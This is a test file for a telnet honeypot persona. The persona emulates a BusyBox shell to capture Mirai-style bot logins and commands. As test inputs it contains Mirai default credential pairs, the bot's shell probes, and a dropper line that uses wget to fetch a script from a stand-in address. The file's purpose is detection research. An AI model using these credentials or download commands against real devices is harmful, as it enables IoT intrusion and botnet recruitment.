import { connect } from "node:net";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { DO, DONT, decodeTelnet, IAC, OPT_ECHO, SB, SE, WILL, WONT } from "../../decode/telnet.js";
import { MIRAI_CREDENTIALS, TELNET_COMMANDS, TELNET_MIRAI_IAC } from "../../simulate/payloads.js";
import type { ConnectionRecord } from "../sensor/connection.js";
import { DEFAULT_LIMITS } from "../sensor/limits.js";
import { Sensor } from "../sensor/sensor.js";
import type { PersonaReply, PersonaSession } from "./persona.js";
import {
  DEFAULT_FAIL_DELAY_MS,
  MAX_PERSONA_COMMANDS,
  MAX_PERSONA_CREDENTIALS,
  telnetConfig,
  telnetPersona,
} from "./telnet.js";
import { TELNETD_GREETING } from "./telnet-options.js";

const latin = (b: Uint8Array | string): string =>
  typeof b === "string" ? b : Buffer.from(b).toString("latin1");
const bytes = (s: string): Uint8Array => Uint8Array.from(s, (c) => c.charCodeAt(0) & 0xff);

function open(options: Record<string, string> = {}): PersonaSession {
  return telnetPersona.open({
    sensorId: "test",
    localPort: 23,
    remoteAddress: "192.0.2.7",
    now: () => 1_528_934_400_000,
    options,
  });
}

/** A conversation: every reply's bytes kept in order, as the sensor records them. */
class Talk {
  readonly client: Uint8Array[] = [];
  readonly server: Uint8Array[] = [];
  closed = false;
  constructor(readonly s: PersonaSession) {
    this.keep(s.greet());
  }
  send(b: Uint8Array | string): PersonaReply[] {
    const chunk = typeof b === "string" ? bytes(b) : b;
    this.client.push(chunk);
    return this.keep(this.s.data(chunk));
  }
  /** What the client typed answered with, as text. */
  say(line: string): string {
    return this.send(`${line}\r\n`)
      .map((r) => latin(r.data))
      .join("");
  }
  private keep(rs: PersonaReply[]): PersonaReply[] {
    for (const r of rs) {
      this.server.push(typeof r.data === "string" ? bytes(r.data) : r.data);
      if (r.close === true) this.closed = true;
    }
    return rs;
  }
}

const cat = (parts: Uint8Array[]): Uint8Array => Buffer.concat(parts);
const NONE = new Uint8Array(0);

describe("telnet persona", () => {
  it("logs a scripted Mirai bot in and answers its shell checks", () => {
    const t = new Talk(open());
    const greeting = t.server.map(latin).join("");
    expect(greeting).toBe(`${latin(TELNETD_GREETING)}login: `);
    // Mirai's consume_iac answers (WONT ECHO, WILL NAWS + size, DO ECHO, DO SGA) are all
    // acknowledgements or refusals of our requests: nothing is due back.
    expect(t.send(TELNET_MIRAI_IAC)).toEqual([]);
    expect(t.say("root")).toBe("root\r\nPassword: ");
    expect(t.say("xc3511")).toMatch(
      /^\r\n\r\n\r\nBusyBox v1\.19\.4 built-in shell \(ash\)\r\n.*# $/s,
    );
    expect(t.say("enable")).toBe("enable\r\n-sh: enable: not found\r\n# ");
    expect(t.say("system")).toBe("system\r\n-sh: system: not found\r\n# ");
    expect(t.say("shell")).toBe("shell\r\n-sh: shell: not found\r\n# ");
    expect(t.say("sh")).toBe("sh\r\n# ");
    expect(t.say("/bin/busybox ECCHI")).toBe("/bin/busybox ECCHI\r\nECCHI: applet not found\r\n# ");
    expect(t.say("foo")).toBe("foo\r\nsh: foo: not found\r\n# ");
    const cmds = ["enable", "system", "shell", "sh", "/bin/busybox ECCHI", "foo"];
    expect(t.s.facts?.()).toEqual({
      credentials: [{ user: "root", password: "xc3511", accepted: true }],
      commands: cmds,
    });
    // The decoder reads the same records back from the recorded bytes.
    const d = decodeTelnet(cat(t.client), cat(t.server));
    expect(d.credentials).toEqual([{ user: "root", password: "xc3511" }]);
    expect(d.commands).toEqual(cmds);
    expect(d.options).toEqual(["fc01", "fb1f", "fa1f", "fd01", "fd03"]);
  });

  it("takes every Mirai pair, byte-split anywhere, to the same records as the decoder", () => {
    fc.assert(
      fc.property(
        fc.integer({ min: 0, max: MIRAI_CREDENTIALS.length - 1 }),
        fc.array(fc.nat(), { maxLength: 6 }),
        (k, cuts) => {
          const [u, p] = MIRAI_CREDENTIALS[k] as readonly [Uint8Array, Uint8Array];
          const all = cat([TELNET_MIRAI_IAC, u, p, ...TELNET_COMMANDS]);
          const t = new Talk(open());
          let at = 0;
          for (const c of cuts.map((x) => x % (all.length + 1)).sort((a, b) => a - b)) {
            t.send(all.subarray(at, c));
            at = c;
          }
          t.send(all.subarray(at));
          const facts = t.s.facts?.();
          const user = latin(u).trim();
          const password = latin(p).trim();
          expect(facts?.credentials).toEqual([{ user, password, accepted: true }]);
          expect(facts?.commands).toEqual([
            "enable",
            "system",
            "shell",
            "sh",
            "/bin/busybox ECCHI",
          ]);
          const d = decodeTelnet(cat(t.client), cat(t.server));
          expect(d.credentials).toEqual([{ user, password }]);
          expect(d.commands).toEqual(facts?.commands);
          expect(latin(cat(t.server))).toContain("ECCHI: applet not found\r\n# ");
        },
      ),
      { numRuns: 60 },
    );
  });

  it("refuses logins as configured: delay, `Login incorrect`, close after max-attempts", () => {
    const t = new Talk(open({ accept: "none" }));
    t.say("root");
    const r = t.send("bad\r\n");
    expect(r).toEqual([
      { data: bytes("\r\nLogin incorrect\r\nlogin: "), delayMs: DEFAULT_FAIL_DELAY_MS },
    ]);
    t.say("admin");
    t.say("admin");
    t.say("root");
    const last = t.send("root\r\n");
    expect(last[0]?.close).toBe(true);
    expect(latin(last[0]?.data ?? "")).toBe("\r\nLogin incorrect\r\n");
    expect(t.send("more\r\n")).toEqual([]);
    expect(t.s.facts?.().credentials?.map((c) => c.accepted)).toEqual([false, false, false]);
    const d = decodeTelnet(cat(t.client), cat(t.server));
    expect(d.credentials).toEqual([
      { user: "root", password: "bad" },
      { user: "admin", password: "admin" },
      { user: "root", password: "root" },
    ]);
  });

  it("accepts listed pairs, or any pair from the accept-after'th attempt", () => {
    const listed = new Talk(open({ accept: "admin:admin, root:", "fail-delay-ms": "0" }));
    listed.say("root");
    expect(listed.say("xc3511")).toContain("Login incorrect");
    listed.say("root");
    expect(listed.say("")).toMatch(/# $/);
    expect(listed.s.facts?.().credentials).toEqual([
      { user: "root", password: "xc3511", accepted: false },
      { user: "root", password: "", accepted: true },
    ]);
    const after = new Talk(open({ "accept-after": "2", "max-attempts": "5", prompt: "$" }));
    after.say("a");
    expect(after.say("b")).toContain("Login incorrect");
    after.say("a");
    expect(after.say("b")).toMatch(/\$ $/);
    expect(telnetConfig({ "accept-after": "x", "max-attempts": "-1" })).toMatchObject({
      acceptAfter: 1,
      maxAttempts: 3,
    });
    expect(telnetConfig({ hostname: "cam-01" }).loginPrompt).toBe("cam-01 login: ");
    expect(telnetConfig({ hostname: "\x1b[2J" }).loginPrompt).toBe("login: ");
  });

  it("answers each `;` command, prints echo -e bytes, and closes on exit", () => {
    const t = new Talk(open());
    t.say("root");
    t.say("root");
    expect(t.say("echo -e '\\x41\\x4b\\x34\\x37'; cat /proc/mounts; /bin/busybox ZZZ")).toMatch(
      /^echo .*\r\nAK47\r\nrootfs \/ rootfs rw 0 0\r\n.*tmpfs \/tmp tmpfs rw.*\r\nZZZ: applet not found\r\n# $/s,
    );
    expect(t.say("echo -ne '\\x7f\\x45\\x4c\\x46' > .s; wget http://198.51.100.7/x.sh")).toBe(
      "echo -ne '\\x7f\\x45\\x4c\\x46' > .s; wget http://198.51.100.7/x.sh\r\n" +
        "wget: can't connect to remote host: Connection refused\r\n# ",
    );
    expect(t.say("sh")).toBe("sh\r\n# ");
    expect(t.say("exit")).toBe("exit\r\n# ");
    expect(t.closed).toBe(false);
    const bye = t.send("exit\r\n");
    expect(bye.at(-1)?.close).toBe(true);
    expect(t.send("id\r\n")).toEqual([]);
  });

  it("stops echoing on DONT ECHO, refuses unknown options once, and never loops", () => {
    const t = new Talk(open());
    expect(
      t.send(Uint8Array.of(IAC, DONT, OPT_ECHO)).map((r) => [...(r.data as Uint8Array)]),
    ).toEqual([[IAC, WONT, OPT_ECHO]]);
    expect(t.say("root")).toBe("Password: ");
    const ttype = Uint8Array.of(IAC, WILL, 0x18, IAC, DO, 0x22, IAC, WILL, 0x18, IAC, DO, 0x22);
    expect(t.send(ttype).map((r) => [...(r.data as Uint8Array)])).toEqual([
      [IAC, DONT, 0x18],
      [IAC, WONT, 0x22],
    ]);
    // A peer that contradicts every answer it gets: the exchange still dies out.
    const flip: Record<number, number> = { [DO]: WONT, [DONT]: WILL, [WILL]: DONT, [WONT]: DO };
    const s = open();
    let pending = [...TELNETD_GREETING];
    let rounds = 0;
    for (; pending.length > 0 && rounds < 100; rounds++) {
      const back: number[] = [];
      for (let i = 0; i + 2 < pending.length; i += 3) {
        if (pending[i] === IAC)
          back.push(IAC, flip[pending[i + 1] as number] ?? DO, pending[i + 2] as number);
      }
      back.push(IAC, SB, 0x1f, 0, 80, 0, 24, IAC, SE);
      pending = s.data(Uint8Array.from(back)).flatMap((r) => [...(r.data as Uint8Array)]);
    }
    expect(rounds).toBeLessThan(10);
  });

  it("never throws on any bytes and keeps its records bounded", () => {
    fc.assert(
      fc.property(
        fc.array(
          fc.oneof(
            fc.uint8Array({ maxLength: 300 }),
            fc.constantFrom(
              ...["root\r\n", "\r\n", "sh\r\n", "exit\r\n", "\xff\xfd\x05"].map(bytes),
            ),
          ),
          { maxLength: 40 },
        ),
        fc.constantFrom({}, { accept: "none", "fail-delay-ms": "0", "max-attempts": "1000" }),
        (chunks, options) => {
          const s = open(options);
          s.greet();
          for (const c of chunks) {
            for (const r of s.data(c)) {
              if ((r.data as Uint8Array).length > 20_000) return false;
            }
          }
          const f = s.facts?.();
          return (
            (f?.credentials?.length ?? 0) <= MAX_PERSONA_CREDENTIALS &&
            (f?.commands?.length ?? 0) <= MAX_PERSONA_COMMANDS
          );
        },
      ),
      { numRuns: 300 },
    );
  });

  it("serves a Mirai-style bot over loopback through the sensor", async () => {
    const records: ConnectionRecord[] = [];
    const sensor = new Sensor({
      sensorId: "test",
      bind: "127.0.0.1",
      listeners: [{ port: 0, persona: telnetPersona }],
      limits: DEFAULT_LIMITS,
      record: (r) => records.push(r),
    });
    await sensor.start();
    try {
      const port = sensor.bound.get(0) as number;
      // The bot waits for each prompt before it types, as Mirai's scanner does.
      const script: Array<[string, Uint8Array | string]> = [
        ["login: ", cat([TELNET_MIRAI_IAC, bytes("root\r\n")])],
        ["Password: ", "vizxv\r\n"],
        ["# ", "enable\r\n"],
        ["not found\r\n# ", "/bin/busybox ECCHI\r\n"],
        ["ECCHI: applet not found\r\n# ", "exit\r\n"],
      ];
      const got = await new Promise<string>((resolve, reject) => {
        let text = "";
        const c = connect({ port, host: "127.0.0.1" });
        c.on("data", (b) => {
          text += b.toString("latin1");
          const next = script[0];
          if (next !== undefined && text.endsWith(next[0])) {
            script.shift();
            c.write(next[1]);
          }
        });
        c.on("error", reject);
        c.on("close", () => resolve(text));
      });
      expect(script).toEqual([]);
      expect(got.startsWith(latin(TELNETD_GREETING))).toBe(true);
      for (let i = 0; i < 500 && records.length === 0; i++) {
        await new Promise((r) => setTimeout(r, 10));
      }
      const rec = records[0];
      expect(rec?.facts).toEqual({
        credentials: [{ user: "root", password: "vizxv", accepted: true }],
        commands: ["enable", "/bin/busybox ECCHI", "exit"],
      });
      const d = decodeTelnet(rec?.session?.clientBytes ?? NONE, rec?.session?.serverBytes ?? NONE);
      expect(d.credentials).toEqual([{ user: "root", password: "vizxv" }]);
      expect(d.commands).toEqual(rec?.facts?.commands);
    } finally {
      await sensor.stop();
    }
  });
});
